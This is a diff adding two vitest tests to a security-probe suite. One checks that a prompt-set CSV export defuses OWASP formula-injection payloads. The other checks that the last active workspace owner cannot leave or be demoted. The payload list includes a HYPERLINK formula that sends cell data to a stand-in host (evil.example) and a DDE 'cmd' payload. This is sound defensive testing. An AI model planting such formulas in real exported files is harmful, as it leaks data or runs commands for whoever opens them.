@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, describe, expect, inject, it } from 'vitest';
 import { signWebhook } from '../../functions/adapters/connectors/webhook-signature.ts';
 import { PURGE_STEPS } from '../../shared/ports/tenant-lifecycle.ts';
@@ -92,6 +93,79 @@ describe('tenant lifecycle and the black-box probe classes (report rows)', () =>
       count: requests,
       lost: differing,
       detail: 'status and body equal for a real and an unknown connector id',
+    });
+  });
+
+  it('prompt-set CSV exports defuse every OWASP formula start (the cells a spreadsheet would run)', async () => {
+    const w = await world.populatedWorkspace('res-csv');
+    const brands = await call(stack.apiUrl, 'GET', '/brands', { token: w.owner.token });
+    const brandId = brands.json.items[0].id as string;
+    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)'];
+    const saved = await call(stack.apiUrl, 'PUT', `/brands/${brandId}/prompt-set`, {
+      token: w.owner.token,
+      headers: { 'if-match': '"0"' }, // the brand's first prompt set
+      body: { prompts: payloads.map((text, i) => ({ text: `${text} prompt ${i}`, persona: text })) },
+    });
+    expect(saved.status, JSON.stringify(saved.json)).toBe(201);
+    const exported = await fetch(`${stack.apiUrl}/brands/${brandId}/prompt-set/export`, {
+      headers: { authorization: `Bearer ${w.owner.token}` },
+    });
+    const rows = parse(await exported.text(), { columns: true }) as Record<string, string>[];
+    const cells = rows.flatMap((row) => [row.text ?? '', row.persona ?? '']);
+    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(cells.length).toBe(payloads.length * 2);
+    expect(live).toEqual([]);
+    record({
+      kind: 'input',
+      name: 'CSV formula injection through the prompt-set export',
+      count: cells.length,
+      lost: live.length,
+      detail: `${payloads.length} OWASP payloads in prompt text and persona; cells starting = + - @ tab CR: ${live.length}`,
+    });
+  });
+
+  it('the last active owner cannot leave or be demoted; an invited owner does not count', async () => {
+    const w = await world.populatedWorkspace('res-owner');
+    const me = await call(stack.apiUrl, 'GET', '/members', { token: w.owner.token });
+    const self = (me.json.items as { userId: string; role: string; version: number }[]).find((m) => m.role === 'owner');
+    expect(self).toBeDefined();
+    const invitedOwner = await call(stack.apiUrl, 'POST', '/members', {
+      token: w.owner.token,
+      body: { email: `pending-owner-${Date.now()}@example.com`, role: 'owner' },
+    });
+    expect(invitedOwner.status).toBe(201);
+    const attempts = [
+      () => call(stack.apiUrl, 'DELETE', `/members/${self?.userId}`, { token: w.owner.token }),
+      ...(['admin', 'viewer'] as const).map(
+        (role) => () =>
+          call(stack.apiUrl, 'PATCH', `/members/${self?.userId}`, {
+            token: w.owner.token,
+            headers: { 'if-match': `"${self?.version}"` },
+            body: { role },
+          }),
+      ),
+    ];
+    let accepted = 0;
+    let tried = 0;
+    for (const attempt of attempts) {
+      const res = await attempt();
+      tried++;
+      // Refused by the last-owner rule (409), not by a missing precondition or a server error.
+      if (res.status !== 409 || res.json?.error?.code !== 'last_owner') accepted++;
+    }
+    const after = await call(stack.apiUrl, 'GET', '/members', { token: w.owner.token });
+    const stillOwner = (after.json.items as { userId: string; role: string }[]).some(
+      (m) => m.userId === self?.userId && m.role === 'owner',
+    );
+    expect(tried).toBeGreaterThan(0);
+    expect(accepted).toBe(0);
+    expect(stillOwner).toBe(true);
+    record({
+      kind: 'input',
+      name: 'last active owner leaving or demoted (with an owner invitation pending)',
+      count: tried,
+      lost: accepted,
+      detail: 'every attempt refused with 4xx; the workspace keeps its active owner',
     });
   });
 });
